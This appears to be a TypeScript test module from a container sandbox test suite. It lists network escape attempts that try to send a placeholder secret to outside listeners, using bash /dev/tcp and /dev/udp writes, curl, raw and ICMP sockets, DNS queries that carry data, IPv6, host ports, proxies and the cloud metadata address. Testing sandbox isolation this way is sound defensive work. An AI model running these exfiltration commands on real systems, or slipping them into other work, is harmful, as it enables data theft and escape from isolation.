import {
  type Attempt,
  type AttemptClass,
  granted,
  REMAINS,
  SETTLED,
} from "../../support/escape.ts";
import type { Outside } from "../../support/escape-outside.ts";

const python = (line: string) => `python3 -c 'import socket, sys, os\n${line}'`;

/** Needs the listeners outside, which say what reached them. */
export function network(outside: Outside): AttemptClass {
  const reaches = (title: string, attack: string, more: Partial<Attempt> = {}): Attempt => ({
    title,
    attack: `{ ${attack}\n} & ${SETTLED}; kill %1 2> /dev/null; wait`,
    evidence: outside.hears,
    ...more,
  });
  /** Stays, as the engine sees, when the kernel gave it the socket. */
  const socket = (title: string, line: string): Attempt => ({
    title,
    attack: `(${python(`${line}\nos.execvp("sleep", ["NAME", "30"])`)}) > /dev/null 2>&1 & ${SETTLED}`,
    ...REMAINS,
  });
  const shared = { control: "shared" };
  const attempts: Attempt[] = [
    reaches("TCP to a neighbour on the bridge", "echo SECRET > /dev/tcp/EAR4/7001"),
    reaches("HTTP to a neighbour by curl", "curl -s -m 2 http://EAR4:7001/SECRET"),
    reaches(
      "HTTP by node",
      "timeout 3 node -e 'fetch(\"http://EAR4:7001/SECRET\").catch(() => {})'",
    ),
    reaches("git over HTTP", "timeout 2 git ls-remote http://EAR4:7001/SECRET"),
    reaches("UDP to a neighbour", "echo SECRET > /dev/udp/EAR4/7002"),
    reaches(
      "a UDP broadcast",
      python(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"SECRET", ("255.255.255.255", 7002))',
      ),
    ),
    reaches(
      "an ICMP echo",
      python(
        's = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b"SECRET", ("EAR4", 0))',
      ),
    ),
    reaches(
      "a raw IP packet of an unknown protocol",
      python(
        's = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(b"SECRET", ("EAR4", 0))',
      ),
    ),
    reaches("a DNS query that carries data", "timeout 1 getent hosts SECRET.example"),
    reaches(
      "a DNS query straight to a server",
      python(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"..\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\15SECRET\\0\\0\\1\\0\\1", ("EAR4", 53))',
      ),
    ),
    reaches(
      "TCP over IPv6",
      python('s = socket.create_connection(("EAR6%eth0", 7006), 1); s.sendall(b"SECRET")'),
    ),
    reaches(
      "UDP over IPv6",
      python(
        's = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b"SECRET", ("EAR6%eth0", 7007))',
      ),
    ),
    reaches(
      "a TCP port that the host opened on the bridge",
      "echo SECRET > /dev/tcp/GATEWAY/HOSTTCP",
    ),
    reaches(
      "a UDP port that the host opened on the bridge",
      "echo SECRET > /dev/udp/GATEWAY/HOSTUDP",
    ),
    reaches(
      "the host by the name that Docker gives it",
      "curl -s -m 2 http://host.docker.internal:HOSTTCP/SECRET",
    ),
    reaches(
      "a proxy named in the environment",
      "http_proxy=http://GATEWAY:HOSTTCP curl -s -m 2 http://example.com/SECRET",
    ),
    reaches(
      "the metadata address of a cloud",
      "curl -s -m 1 http://169.254.169.254/latest/SECRET",
      shared,
    ),
    reaches(
      "an abstract socket",
      python(
        's = socket.socket(socket.AF_UNIX); s.connect("\\0deckhand-ear"); s.sendall(b"SECRET")',
      ),
      shared,
    ),
    reaches("somebody else's loopback", "echo SECRET > /dev/tcp/127.0.0.1/7001", shared),
    socket("a packet socket", "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)"),
    socket("a raw TCP socket", "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)"),
    granted("a second network interface", "ls /sys/class/net | grep -qv '^lo$'"),
    granted("a route that leads out", "grep -q . <(tail -n +2 /proc/net/route)"),
  ];
  return { name: "P-S4 network", control: "bridge", attempts };
}
